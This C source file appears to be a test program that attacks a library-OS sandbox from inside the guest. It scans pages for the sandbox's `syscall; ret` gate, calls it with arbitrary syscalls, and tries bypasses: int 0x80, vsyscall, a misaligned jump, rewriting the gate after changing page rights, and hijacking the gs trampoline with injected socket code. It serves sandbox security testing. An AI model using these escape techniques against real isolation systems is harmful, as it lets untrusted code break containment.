// Attacks the one gate to the host: finds it in the library OS's code and jumps there with a number of its own choice, and
// with a third argument and a path when they are given: gate NUMBER [FLAGS PATH], or with all six: gate raw NUMBER A B C D E F.
// Other ways around it: gate int80 | vsyscall | middle | rewritten | gs.
#include "guest.h"

static volatile unsigned char *find_gate(unsigned char *from)
{
    // The gate is `syscall; ret`. Whole pages around the entry stub are searched until one cannot be read.
    for (int direction = -1; direction <= 1; direction += 2) {
        unsigned char *page = (unsigned char *)((uintptr_t)from & ~4095UL);
        if (direction > 0) page += 4096;
        for (;; page += direction * 4096) {
            if (sigsetjmp(probe_return, 1)) break;
            for (int i = 0; i < 4096 - 2; i++) if (page[i] == 0x0f && page[i + 1] == 0x05 && page[i + 2] == 0xc3) return page + i;
        }
    }
    return NULL;
}

static long through(volatile unsigned char *gate, long number, const long *a)
{
    long result;
    register long d __asm__("r10") = a[3], e __asm__("r8") = a[4], f __asm__("r9") = a[5];
    __asm__ volatile("call *%1" : "=a"(result) : "b"(gate), "0"(number), "D"(a[0]), "S"(a[1]), "d"(a[2]), "r"(d), "r"(e), "r"(f) : "rcx", "r11", "memory");
    return result;
}

static int other_way(const char *name, volatile unsigned char *gate)
{
    long result = 0, page = (long)gate & ~4095L;
    if (strcmp(name, "int80") == 0) // getpid of 32-bit programs.
        __asm__ volatile("int $0x80" : "=a"(result) : "0"(20L) : "memory");
    else if (strcmp(name, "vsyscall") == 0)
        result = ((long (*)(long *))0xffffffffff600400)(NULL);
    else if (strcmp(name, "middle") == 0) // The first byte is left out: what remains is no system call.
        result = through(gate + 1, 39, (long[6]){0});
    else if (strcmp(name, "rewritten") == 0) {
        // The filter lets the library OS change rights, so whoever has taken it over can write there. The rules stay.
        result = through(gate, 10, (long[6]){page, 4096, 7});
        printf("rights %ld\n", result);
        memcpy((void *)gate, "\x0f\x05\xc3", 3);
        fflush(stdout);
        result = through(gate, 41, (long[6]){1, 1, 0});
    } else if (strcmp(name, "gs") == 0) {
        // A thread block of the guest's own: the trampolines go where it says, into code that asks the host for a socket.
        static unsigned char code[4096] __attribute__((aligned(4096)));
        static long block[512];
        memcpy(code, "\xb8\x29\0\0\0\x0f\x05\xc3", 8);
        printf("rights %ld\n", through(gate, 10, (long[6]){(long)code, 4096, 7}));
        fflush(stdout);
        block[0] = (long)code;
        result = through(gate, 158, (long[6]){0x1001, (long)block - 0x10000});
        result = ((long (*)(void))code)();
    }
    printf("the host answered %ld\n", result);
    return 0;
}

int main(int argc, char **argv)
{
    probes_on();
    unsigned char *entry = NULL;
    if (sigsetjmp(probe_return, 1) == 0) __asm__ volatile("movq %%gs:0x10000, %0" : "=r"(entry));
    if (!entry) { puts("no library OS here"); return 1; }
    volatile unsigned char *gate = find_gate(entry);
    printf("gate found %d\n", gate != NULL);
    fflush(stdout);
    if (!gate) return 2;
    if (argc == 9 && strcmp(argv[1], "raw") == 0) {
        long a[6];
        for (int i = 0; i < 6; i++) a[i] = strtol(argv[3 + i], NULL, 0);
        printf("the host answered %ld\n", through(gate, strtol(argv[2], NULL, 0), a));
        return 0;
    }
    if (argc == 2 && !strchr("0123456789", argv[1][0])) return other_way(argv[1], gate);
    long result, number = atol(argv[1]), flags = argc > 3 ? strtol(argv[2], NULL, 0) : 0;
    long first = argc > 3 ? AT_FDCWD : 2, second = argc > 3 ? (long)argv[3] : 1;
    __asm__ volatile("mov %2, %%rax\nxor %%r10d, %%r10d\ncall *%1\nmov %%rax, %0" : "=r"(result) : "b"(gate), "r"(number), "D"(first), "S"(second), "d"(flags) : "rax", "rcx", "r10", "r11", "memory");
    printf("the host answered %ld\n", result);
    return 0;
}
